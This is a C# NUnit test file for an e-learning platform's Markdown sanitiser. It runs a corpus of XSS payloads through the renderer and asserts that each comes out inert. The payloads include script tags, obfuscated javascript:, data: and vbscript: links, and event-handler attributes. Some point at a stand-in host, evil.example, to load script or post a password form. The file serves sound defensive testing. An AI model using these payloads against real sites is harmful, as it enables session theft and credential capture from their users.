using ECampus.Content.Rendering;

namespace ECampus.Content.Tests.Rendering;

/// <summary>Every payload must come out inert, whether the source may use raw HTML or not.</summary>
public class XssCorpusTests
{
    private static readonly string[] Payloads =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert('XSS')\">",
        "<img src=x onerror=\"alert(1)\"//",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;&#x61;vascript:alert(1))",
        "[x](java%0ascript:alert(1))",
        "[x](java&#x09;script:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](<  javascript:alert(1)>)",
        "[x](&#14;javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](DATA:text/html,<script>alert(1)</script>)",
        "[x](vbscript:msgbox(1))",
        "[x](VbScRiPt:msgbox(1))",
        "[x](file:///etc/passwd)",
        "![i](javascript:alert(1))",
        "![i](JAVASCRIPT:alert(1))",
        "![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![i](vbscript:msgbox(1))",
        "<javascript:alert(1)>",
        "<JavaScript:alert(1)>",
        "<data:text/html,alert(1)>",
        "<vbscript:msgbox(1)>",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "[x][evil]\n\n[evil]: <data:text/html,<script>alert(1)</script>>",
        "![x][img]\n\n[img]: javascript:alert(1)",
        "*[emphasised](javascript:alert(1))*",
        "[![img](https://ok.example/a.png)](javascript:alert(1))",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<form action=https://evil.example><input name=password><button>Go</button></form>",
        "<form id=\"test\"><input name=\"attributes\"></form>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"x.swf\"></object>",
        "<embed src=\"x.swf\">",
        "<style>body{display:none}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"https://ok.example\" onclick=alert(1)>ok</a>",
        "<a href=\"#\" onclick=\"alert(1)\">x</a>",
        "<a href=\"https://ok.example\" target=\"_blank\">x</a>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<img id=\"x\" name=\"location\" src=\"https://ok.example/a.png\">",
        "<img srcset=\"javascript:alert(1) 1x\" src=\"https://ok.example/a.png\">",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<<script>alert(1)//<</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<div class=\"activity\" data-activity-type=\"quiz\" data-activity-id=\"x\" onclick=\"alert(1)\">forged</div>",
        "<span data-activity-type=\"quiz\" data-activity-id=\"x\">wrong element</span>",
        "<div class=\"activity\" data-activity-type=\"quiz\" data-activity-id='x\" onclick=\"alert(1)'>quoted</div>",
        "<div data-foo=\"bar\" class=\"activity\">other data</div>",
        ":::activity quiz check\n<img src=x onerror=alert(1)>\n:::",
        ":::note\n<script>alert(1)</script>\n:::",
        "| a |\n|---|\n| <script>alert(1)</script> |",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    ];

    private static IEnumerable<TestCaseData> Cases() =>
        Payloads.Select((payload, i) => new TestCaseData(payload).SetName($"Payload_{i:00}_IsInert"));

    private static readonly SafeMarkdownOptions RawHtmlAllowed = new()
    {
        AllowRawHtml = true,
        ActivityTypes = new HashSet<string> { "quiz", "discussion" },
    };

    [TestCaseSource(nameof(Cases))]
    public void WithoutRawHtml(string payload) => AssertInert(payload, SafeMarkdownOptions.Default);

    [TestCaseSource(nameof(Cases))]
    public void WithRawHtml(string payload) => AssertInert(payload, RawHtmlAllowed);

    [TestCaseSource(nameof(Cases))]
    public void AsForumPost(string payload) => AssertInert(payload, SafeMarkdownOptions.ForumPost);

    [Test]
    public void Checker_FlagsUnsafeHtml_SoTheCorpusCanFail()
    {
        var problems = InertHtml.Problems(
            "<a href=\" JaVa\tScRipt:alert(1)\">x</a><img src=x onerror=alert(1)><form></form><p style=\"x\" id=\"main\"></p>"
            + "<span data-activity-id=\"x\"></span>");

        Assert.That(problems, Has.Count.EqualTo(6), string.Join("\n", problems));
    }

    [Test]
    public void SafeLinks_SurviveTheAllowList()
    {
        var html = SafeMarkdown.Shared.Render(
            "[web](https://www.ilo.org) [mail](mailto:a@example.org) [page](other/page) [top](#top) ![i](https://ok.example/a.png)").Html;

        Assert.That(html, Does.Contain("href=\"https://www.ilo.org\"")
            .And.Contain("href=\"mailto:a@example.org\"")
            .And.Contain("href=\"other/page\"")
            .And.Contain("href=\"#user-content-top\"")
            .And.Contain("src=\"https://ok.example/a.png\""));
    }

    [Test]
    public void DisallowedLink_KeepsItsText()
    {
        var html = SafeMarkdown.Shared.Render("Read [the guide](javascript:alert(1)) and ![a chart](data:image/png;base64,AAAA).").Html;

        Assert.That(html, Is.EqualTo("<p>Read the guide and a chart.</p>\n"));
    }

    [Test]
    public void RawHtml_IsShownAsText_WhenNotAllowed()
    {
        var html = SafeMarkdown.Shared.Render("<b>bold</b> <script>alert(1)</script>").Html;

        Assert.That(html, Is.EqualTo("<p>&lt;b&gt;bold&lt;/b&gt; &lt;script&gt;alert(1)&lt;/script&gt;</p>\n"));
    }

    [Test]
    public void RawHtml_IsSanitised_WhenAllowed()
    {
        var html = SafeMarkdown.Shared.Render("<b onclick=\"x()\">bold</b> <script>alert(1)</script>", RawHtmlAllowed).Html;

        Assert.That(html, Is.EqualTo("<p><b>bold</b> </p>\n"));
    }

    [Test]
    public void ActivityBlock_IsPlainText_InForumPosts()
    {
        var html = SafeMarkdown.Shared.Render(":::activity quiz final\nTake the quiz.\n:::", SafeMarkdownOptions.ForumPost).Html;

        Assert.That(html, Is.EqualTo("<div>\n<p>Take the quiz.</p>\n</div>\n"));
    }

    [Test]
    public void ForgedPlaceholder_InRawHtml_LosesItsDataAttributes_InForumPosts()
    {
        var html = SafeMarkdown.Shared.Render(
            "<div class=\"activity\" data-activity-type=\"quiz\" data-activity-id=\"final\">x</div>",
            SafeMarkdownOptions.ForumPost with { AllowRawHtml = true }).Html;

        Assert.That(html, Is.EqualTo("<div class=\"activity\">x</div>\n"));
    }

    private static void AssertInert(string payload, SafeMarkdownOptions options)
    {
        var result = SafeMarkdown.Shared.Render(payload, options);

        Assert.That(result.IsRejected, Is.False, "payload was rejected instead of rendered");
        var problems = InertHtml.Problems(result.Html);
        Assert.That(problems, Is.Empty, $"Output was not inert:\n{result.Html}");
    }
}
